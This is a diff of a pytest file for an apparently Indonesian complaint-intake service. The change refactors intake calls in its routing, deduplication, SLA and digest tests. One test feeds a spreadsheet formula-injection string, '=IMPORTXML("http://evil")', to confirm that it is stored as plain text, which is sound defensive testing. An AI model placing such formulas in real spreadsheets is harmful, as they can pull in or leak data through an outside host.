@@ -11,6 +11,7 @@ import pytest
 from functions.model import InvalidComplaint, Sla, Status
 from functions.services.jobs import daily_job, sweep_job
 from functions.services.staff import staff_edit
+from functions.services.intake import intake
 from tests.conftest import complaint
 from tests.fakes.clock import FakeClock
 
@@ -24,7 +25,7 @@ def row_of(svc, ticket):
 
 
 def test_intake_routes_stores_and_masks(svc, clock):
-    receipt = svc.intake(complaint("jalan di desa kami rusak parah banyak lubang", clock, name="Budi Santoso Wijaya",
+    receipt = intake(svc, complaint("jalan di desa kami rusak parah banyak lubang", clock, name="Budi Santoso Wijaya",
                                    phone="081328383222"))
     case = svc.workbook.find(receipt.ticket_id)
     assert receipt.created and case.tab == "PUTR" == receipt.opd
@@ -38,9 +39,9 @@ def test_intake_routes_stores_and_masks(svc, clock):
 
 def test_redelivery_gives_the_same_ticket_and_writes_nothing_new(svc, clock):
     sent_at = FakeClock(clock())  # the message keeps its own timestamp when Meta redelivers it
-    first = svc.intake(complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
+    first = intake(svc, complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
     clock.advance(days=2)
-    again = svc.intake(complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
+    again = intake(svc, complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
     assert again.ticket_id == first.ticket_id and not again.created
     assert sum(len(rows) for rows in svc.workbook.read_all().values()) == 1
 
@@ -48,12 +49,12 @@ def test_redelivery_gives_the_same_ticket_and_writes_nothing_new(svc, clock):
 @pytest.mark.parametrize("text", ["", "   \n ", "\x00\u202e\u200b"])  # a megabyte is stored (issue 16, item 26)
 def test_bad_complaints_are_refused_and_nothing_is_written(svc, clock, text):
     with pytest.raises(InvalidComplaint):
-        svc.intake(complaint(text, clock))
+        intake(svc, complaint(text, clock))
     assert sum(len(rows) for rows in svc.workbook.read_all().values()) == 0
 
 
 def test_formula_text_is_stored_as_text(svc, clock):
-    receipt = svc.intake(complaint("=IMPORTXML(\"http://evil\") jalan rusak", clock))
+    receipt = intake(svc, complaint("=IMPORTXML(\"http://evil\") jalan rusak", clock))
     assert row_of(svc, receipt.ticket_id)["text"].startswith("=IMPORTXML")
 
 
@@ -64,7 +65,7 @@ def test_formula_text_is_stored_as_text(svc, clock):
 ])
 def test_sla_judged_when_the_sweep_finds_the_response(svc, clock, answered_after_hours, expected):
     start = clock()
-    receipt = svc.intake(complaint("lampu jalan mati", clock))
+    receipt = intake(svc, complaint("lampu jalan mati", clock))
     clock.set(start + timedelta(hours=answered_after_hours))
     answer(svc, receipt.ticket_id)
     report = sweep_job(svc)
@@ -74,7 +75,7 @@ def test_sla_judged_when_the_sweep_finds_the_response(svc, clock, answered_after
 
 
 def test_answer_erased_by_staff_keeps_first_response_time_and_is_reported(svc, clock):
-    receipt = svc.intake(complaint("KTP belum jadi", clock))
+    receipt = intake(svc, complaint("KTP belum jadi", clock))
     clock.advance(hours=5)
     answer(svc, receipt.ticket_id)
     sweep_job(svc)
@@ -89,13 +90,13 @@ def test_answer_erased_by_staff_keeps_first_response_time_and_is_reported(svc, c
 
 
 def test_daily_marks_overdue_and_digest_names_them(svc, clock, settings):
-    late = svc.intake(complaint("jalan berlubang di Sandai", clock))
-    answered = svc.intake(complaint("sampah tidak diangkut", clock))
+    late = intake(svc, complaint("jalan berlubang di Sandai", clock))
+    answered = intake(svc, complaint("sampah tidak diangkut", clock))
     clock.advance(hours=3)
     answer(svc, answered.ticket_id)
     sweep_job(svc)
     clock.advance(hours=46)  # 49 h after the first complaint
-    fresh = svc.intake(complaint("lampu jalan mati", clock))
+    fresh = intake(svc, complaint("lampu jalan mati", clock))
     report = daily_job(svc)
     assert report.marked_overdue == [late.ticket_id]
     assert row_of(svc, late.ticket_id)["sla"] == Sla.OVERDUE
@@ -113,7 +114,7 @@ def test_daily_marks_overdue_and_digest_names_them(svc, clock, settings):
 
 
 def test_late_answer_after_overdue_stays_visible_as_late(svc, clock):
-    receipt = svc.intake(complaint("jalan rusak", clock))
+    receipt = intake(svc, complaint("jalan rusak", clock))
     clock.advance(hours=50)
     daily_job(svc)
     answer(svc, receipt.ticket_id)
@@ -122,7 +123,7 @@ def test_late_answer_after_overdue_stays_visible_as_late(svc, clock):
 
 
 def test_daily_twice_for_the_same_date_sends_once(svc, clock, settings):
-    svc.intake(complaint("jalan rusak", clock))
+    intake(svc, complaint("jalan rusak", clock))
     clock.advance(hours=49)
     first = daily_job(svc)
     second = daily_job(svc)
@@ -134,7 +135,7 @@ def test_daily_twice_for_the_same_date_sends_once(svc, clock, settings):
 
 
 def test_dry_run_writes_nothing(svc, clock, settings):
-    receipt = svc.intake(complaint("jalan rusak", clock))
+    receipt = intake(svc, complaint("jalan rusak", clock))
     clock.advance(hours=49)
     report = daily_job(svc, dry_run=True)
     assert report.marked_overdue == [receipt.ticket_id]
@@ -146,7 +147,7 @@ def test_a_case_the_citizen_withdrew_is_never_marked_overdue(svc, clock):
     from functions.services.replies import withdrawn_note
     from functions.stores.port import CellUpdate
 
-    receipt = svc.intake(complaint("jalan rusak", clock))
+    receipt = intake(svc, complaint("jalan rusak", clock))
     svc.workbook.update([CellUpdate(receipt.ticket_id, {"note": withdrawn_note(clock())})])
     clock.advance(hours=60)
     assert daily_job(svc).marked_overdue == []
